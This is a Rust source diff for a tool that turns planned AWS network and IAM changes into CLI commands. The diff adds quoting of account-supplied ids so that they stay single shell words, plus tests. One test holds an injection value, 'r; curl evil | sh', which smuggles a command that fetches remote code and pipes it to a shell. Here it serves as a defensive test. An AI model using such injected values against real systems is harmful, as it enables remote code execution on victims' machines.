@@ -13,8 +13,46 @@ pub fn render_cli(changes: &[Change]) -> Vec<String> {
     let mut variables = Variables::default();
     changes
         .iter()
-        .flat_map(|change| commands(change, &mut variables))
+        .map(shell_safe)
+        .flat_map(|change| commands(&change, &mut variables))
         .collect()
+}
+
+/// `text` as one shell word: as it is when it holds only characters no shell interprets,
+/// else single-quoted. Ids and names come from the account (hostile input): a command a
+/// person pastes must not run anything else.
+fn shell_word(text: &str) -> String {
+    let plain = !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._:/@+=,-".contains(c));
+    if plain {
+        text.to_string()
+    } else {
+        format!("'{}'", text.replace('\'', "'\\''"))
+    }
+}
+
+/// The change with every id, name and value as a shell word (through its serde form, so
+/// that no field is forgotten).
+fn shell_safe(change: &Change) -> Change {
+    fn quote(value: &mut serde_json::Value, key: Option<&str>) {
+        match value {
+            serde_json::Value::String(s) if key != Some("action") => *s = shell_word(s),
+            serde_json::Value::Array(items) => items.iter_mut().for_each(|v| quote(v, None)),
+            serde_json::Value::Object(fields) => {
+                for (k, v) in fields.iter_mut() {
+                    quote(v, Some(k));
+                }
+            }
+            _ => {}
+        }
+    }
+    let Ok(mut value) = serde_json::to_value(change) else {
+        return change.clone();
+    };
+    quote(&mut value, None);
+    serde_json::from_value(value).unwrap_or_else(|_| change.clone())
 }
 
 /// Shell variables standing for the ids of resources created earlier in the script.
@@ -73,6 +111,32 @@ fn destination_flag(destination: &str) -> String {
 
 fn commands(change: &Change, variables: &mut Variables) -> Vec<String> {
     match change {
+        Change::CreateNatGateway { .. }
+        | Change::CreateRoute { .. }
+        | Change::ReplaceRoute { .. }
+        | Change::DeleteRoute { .. }
+        | Change::DeleteNatGateway { .. } => gateway_and_route_commands(change, variables),
+        Change::CreateEndpointSecurityGroup { .. }
+        | Change::CreateInterfaceEndpoint { .. }
+        | Change::CreateGatewayEndpoint { .. }
+        | Change::AssociateGatewayEndpoint { .. }
+        | Change::EnableEndpointPrivateDns { .. }
+        | Change::AddEndpointSubnets { .. }
+        | Change::DeleteVpcEndpoint { .. }
+        | Change::EnableVpcDns { .. } => endpoint_commands(change, variables),
+        Change::AuthorizeEgress { .. }
+        | Change::AuthorizeIngress { .. }
+        | Change::RevokeEgress { .. }
+        | Change::AllowNaclEntry { .. }
+        | Change::RevokeIngress { .. } => filter_commands(change, variables),
+        Change::AttachRolePolicy { .. }
+        | Change::DetachRolePolicy { .. }
+        | Change::EnableAssignPublicIp { .. } => role_and_service_commands(change),
+    }
+}
+
+fn gateway_and_route_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
+    match change {
         Change::CreateNatGateway { subnet_id, .. } => {
             let eip = variables.define(&format!("eip-for-{subnet_id}"), "EIP_ID");
             let nat = variables.define(&super::new_nat_id(subnet_id), "NAT_ID");
@@ -106,6 +170,16 @@ fn commands(change: &Change, variables: &mut Variables) -> Vec<String> {
             "aws ec2 delete-route --route-table-id {route_table_id} {}",
             destination_flag(destination)
         )],
+        Change::DeleteNatGateway { nat_gateway_id } => vec![format!(
+            "aws ec2 delete-nat-gateway --nat-gateway-id {nat_gateway_id}"
+        )],
+        // `commands` sends only this family here; nothing to run otherwise.
+        _ => Vec::new(),
+    }
+}
+
+fn endpoint_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
+    match change {
         Change::CreateEndpointSecurityGroup { vpc_id } => {
             let sg = variables.define(&super::new_endpoint_group_id(vpc_id), "ENDPOINT_SG_ID");
             vec![
@@ -154,9 +228,6 @@ fn commands(change: &Change, variables: &mut Variables) -> Vec<String> {
         Change::DeleteVpcEndpoint { endpoint_id } => vec![format!(
             "aws ec2 delete-vpc-endpoints --vpc-endpoint-ids {endpoint_id}"
         )],
-        Change::DeleteNatGateway { nat_gateway_id } => vec![format!(
-            "aws ec2 delete-nat-gateway --nat-gateway-id {nat_gateway_id}"
-        )],
         // One attribute per call: the API refuses both in one request.
         Change::EnableVpcDns { vpc_id, attribute } => vec![format!(
             "aws ec2 modify-vpc-attribute --vpc-id {vpc_id} {}",
@@ -165,6 +236,13 @@ fn commands(change: &Change, variables: &mut Variables) -> Vec<String> {
                 DnsAttribute::DnsHostnames => "--enable-dns-hostnames '{\"Value\":true}'",
             }
         )],
+        // `commands` sends only this family here; nothing to run otherwise.
+        _ => Vec::new(),
+    }
+}
+
+fn filter_commands(change: &Change, variables: &mut Variables) -> Vec<String> {
+    match change {
         Change::AuthorizeEgress {
             group_id,
             port,
@@ -223,6 +301,13 @@ fn commands(change: &Change, variables: &mut Variables) -> Vec<String> {
             "aws ec2 create-network-acl-entry --network-acl-id {network_acl_id} {} --rule-number {rule_number} --protocol tcp --port-range From={from_port},To={to_port} --cidr-block {cidr} --rule-action allow",
             if *egress { "--egress" } else { "--ingress" }
         )],
+        // `commands` sends only this family here; nothing to run otherwise.
+        _ => Vec::new(),
+    }
+}
+
+fn role_and_service_commands(change: &Change) -> Vec<String> {
+    match change {
         Change::AttachRolePolicy {
             role_name,
             policy_arn,
@@ -240,5 +325,145 @@ fn commands(change: &Change, variables: &mut Variables) -> Vec<String> {
         Change::EnableAssignPublicIp { cluster, service } => vec![format!(
             "aws ecs update-service --cluster {cluster} --service {service} --network-configuration \"$(aws ecs describe-services --cluster {cluster} --services {service} --query 'services[0].networkConfiguration' --output json | sed 's/\"DISABLED\"/\"ENABLED\"/')\""
         )],
+        // `commands` sends only this family here; nothing to run otherwise.
+        _ => Vec::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::fix::{new_nat_id, DnsAttribute, Peer, RouteTo};
+
+    fn every_change() -> Vec<Change> {
+        let s = |x: &str| x.to_string();
+        vec![
+            Change::CreateNatGateway {
+                vpc_id: s("vpc-1"),
+                subnet_id: s("subnet-p"),
+            },
+            Change::CreateRoute {
+                route_table_id: s("rtb-1"),
+                destination_cidr: s("0.0.0.0/0"),
+                target: RouteTo::NatGateway(new_nat_id("subnet-p")),
+            },
+            Change::ReplaceRoute {
+                route_table_id: s("rtb-1"),
+                destination: s("pl-1"),
+                target: RouteTo::InternetGateway(s("igw-1")),
+            },
+            Change::DeleteRoute {
+                route_table_id: s("rtb-1"),
+                destination: s("10.0.0.0/8"),
+            },
+            Change::CreateEndpointSecurityGroup { vpc_id: s("vpc-1") },
+            Change::CreateInterfaceEndpoint {
+                vpc_id: s("vpc-1"),
+                service_name: s("com.amazonaws.us-east-1.logs"),
+                subnet_ids: vec![s("subnet-a")],
+                security_group_ids: vec![s("sg-1")],
+            },
+            Change::CreateGatewayEndpoint {
+                vpc_id: s("vpc-1"),
+                service_name: s("com.amazonaws.us-east-1.s3"),
+                route_table_ids: vec![s("rtb-1")],
+            },
+            Change::AssociateGatewayEndpoint {
+                endpoint_id: s("vpce-1"),
+                route_table_id: s("rtb-1"),
+            },
+            Change::EnableEndpointPrivateDns {
+                endpoint_id: s("vpce-1"),
+            },
+            Change::AddEndpointSubnets {
+                endpoint_id: s("vpce-1"),
+                subnet_ids: vec![s("subnet-b")],
+            },
+            Change::DeleteVpcEndpoint {
+                endpoint_id: s("vpce-1"),
+            },
+            Change::DeleteNatGateway {
+                nat_gateway_id: s("nat-1"),
+            },
+            Change::EnableVpcDns {
+                vpc_id: s("vpc-1"),
+                attribute: DnsAttribute::DnsHostnames,
+            },
+            Change::AuthorizeEgress {
+                group_id: s("sg-1"),
+                port: 443,
+                peer: Peer::Group(s("sg-2")),
+            },
+            Change::AuthorizeIngress {
+                group_id: s("sg-1"),
+                port: 443,
+                peer: Peer::Cidr(s("10.0.0.0/16")),
+            },
+            Change::RevokeEgress {
+                group_id: s("sg-1"),
+                peer: Peer::PrefixList(s("pl-1")),
+            },
+            Change::RevokeIngress {
+                group_id: s("sg-1"),
+                peer: Peer::Group(s("sg-2")),
+            },
+            Change::AllowNaclEntry {
+                network_acl_id: s("acl-1"),
+                egress: true,
+                rule_number: 99,
+                cidr: s("0.0.0.0/0"),
+                from_port: 443,
+                to_port: 443,
+            },
+            Change::AttachRolePolicy {
+                role_name: s("r"),
+                policy_arn: s("arn:aws:iam::aws:policy/x"),
+            },
+            Change::DetachRolePolicy {
+                role_name: s("r"),
+                policy_arn: s("arn:aws:iam::aws:policy/x"),
+            },
+            Change::EnableAssignPublicIp {
+                cluster: s("prod"),
+                service: s("web"),
+            },
+        ]
+    }
+
+    #[test]
+    fn every_change_renders_a_command() {
+        for change in every_change() {
+            let commands = render_cli(std::slice::from_ref(&change));
+            assert!(!commands.is_empty(), "{change:?}");
+            assert!(
+                commands.iter().all(|c| c.contains("aws ")),
+                "{commands:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_new_nat_gateway_travels_in_a_variable() {
+        let changes = &every_change()[..2];
+        let commands = render_cli(changes);
+        assert!(commands[1].starts_with("NAT_ID=$(aws ec2 create-nat-gateway --subnet-id subnet-p"));
+        assert!(
+            commands[3].ends_with("--nat-gateway-id \"$NAT_ID\""),
+            "{}",
+            commands[3]
+        );
+    }
+
+    #[test]
+    fn hostile_ids_stay_one_shell_word() {
+        let change = Change::AttachRolePolicy {
+            role_name: "r; curl evil | sh".into(),
+            policy_arn: "arn:aws:iam::aws:policy/it's".into(),
+        };
+        let command = &render_cli(&[change])[0];
+        assert_eq!(
+            command,
+            "aws iam attach-role-policy --role-name 'r; curl evil | sh' --policy-arn 'arn:aws:iam::aws:policy/it'\\''s'"
+        );
     }
 }
